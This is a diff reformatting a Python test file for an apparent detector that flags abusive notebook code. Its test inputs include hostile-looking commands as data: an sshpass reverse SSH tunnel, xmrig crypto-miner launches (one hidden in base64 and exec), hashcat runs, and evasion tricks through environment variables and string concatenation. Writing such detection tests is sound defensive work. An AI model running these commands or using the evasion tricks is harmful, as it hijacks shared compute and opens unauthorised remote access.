@@ -18,7 +18,12 @@ def filler(lines: int) -> str:
 
 
 def test_focus_keeps_the_statement_what_it_reads_and_maps_runs_back() -> None:
-    text = "from os import system as run\n" + filler(200) + "cmd = 'ls'\nimport os\nos.system(cmd)\nrun(cmd)\n" + filler(50)
+    text = (
+        "from os import system as run\n"
+        + filler(200)
+        + "cmd = 'ls'\nimport os\nos.system(cmd)\nrun(cmd)\n"
+        + filler(50)
+    )
     window = focus(text, [text.index("os.system"), text.index("run(cmd)")])
     assert window is not None
     # the call, the assignment it reads, and (called bare) the import that names `run`; a
@@ -35,7 +40,11 @@ def test_hit_deep_in_a_large_cell_is_found_with_its_line(engine: Engine) -> None
 
 
 def test_multiline_statement_around_a_hit_is_kept_whole(engine: Engine) -> None:
-    code = filler(500) + "import subprocess\nsubprocess.run(\n    [\n        './hashcat',\n        '-m', '0',\n    ]\n)\n" + filler(10)
+    code = (
+        filler(500)
+        + "import subprocess\nsubprocess.run(\n    [\n        './hashcat',\n        '-m', '0',\n    ]\n)\n"
+        + filler(10)
+    )
     verdict = engine.evaluate(code)
     hit = verdict.hit("password-cracking.hashcat")
     assert hit is not None and hit.matches[0].span.line == 504
@@ -54,7 +63,10 @@ def test_large_benign_cell_is_allowed(engine: Engine) -> None:
 @pytest.mark.parametrize(
     ("code", "rule"),
     [
-        ("!sshpass -p pw ssh -o StrictHostKeyChecking=no -R 2222:localhost:22 me@vps", "remote-access.ssh-reverse-tunnel"),
+        (
+            "!sshpass -p pw ssh -o StrictHostKeyChecking=no -R 2222:localhost:22 me@vps",
+            "remote-access.ssh-reverse-tunnel",
+        ),
         ("!cpulimit -l 50 -- ./xmrig -o p:1", "mining.xmrig"),
         ("import asyncio\nawait asyncio.create_subprocess_exec('./xmrig', '-o', 'p:1')", "mining.xmrig"),
         ("import asyncio\nawait asyncio.create_subprocess_shell('./xmrig -o p:1')", "mining.xmrig"),
@@ -72,12 +84,15 @@ def test_decorated_function_after_a_hit_keeps_the_payload_decoded(engine: Engine
     import base64
 
     payload = base64.b64encode(b"import os; os.system('./xmrig -o pool.supportxmr.com:443')").decode()
-    code = filler(120) + f"import base64\nexec(base64.b64decode('{payload}'))\n@staticmethod\ndef later():\n    return 1\n"
+    code = (
+        filler(120) + f"import base64\nexec(base64.b64decode('{payload}'))\n@staticmethod\ndef later():\n    return 1\n"
+    )
     assert "mining.xmrig" in engine.evaluate(code).rule_ids
 
 
-@pytest.mark.parametrize("assign", ["def setup():\n    A = './xm'\n", "with open('f') as fh:\n    A = './xm'\n",
-                                    "A = ''\nA += './xm'\n"])
+@pytest.mark.parametrize(
+    "assign", ["def setup():\n    A = './xm'\n", "with open('f') as fh:\n    A = './xm'\n", "A = ''\nA += './xm'\n"]
+)
 def test_variables_from_indented_or_augmented_assignments_still_fold(engine: Engine, assign: str) -> None:
     code = assign + filler(300) + "import os\nos.system(A + 'rig -o p:1')\n"
     assert "mining.xmrig" in engine.evaluate(code).rule_ids
@@ -203,8 +218,10 @@ def test_span_finder_fast_and_public_paths_agree() -> None:
         ("%env T ./xm\nx = 1\n!${T}rig -o pool", "mining.xmrig"),
         ("%set_env T=./xm\n!${T}rig -o pool", "mining.xmrig"),
         ('import os\nos.environ["M"] = "./xm"\nprint(2)\n!${M}rig -o p', "mining.xmrig"),
-        ('import os\ndef setup():\n    os.environ.setdefault("M", "./hash")\nprint(1)\n!${M}cat -m 0 h.txt',
-         "password-cracking.hashcat"),
+        (
+            'import os\ndef setup():\n    os.environ.setdefault("M", "./hash")\nprint(1)\n!${M}cat -m 0 h.txt',
+            "password-cracking.hashcat",
+        ),
         ('import os\nos.putenv("M", "xmrig")\n!./$M', "mining.xmrig"),
         ("%env MODEL=bert\n!echo $MODEL", None),
         ('import os\nos.environ["X"] = "1"\n!echo $X', None),
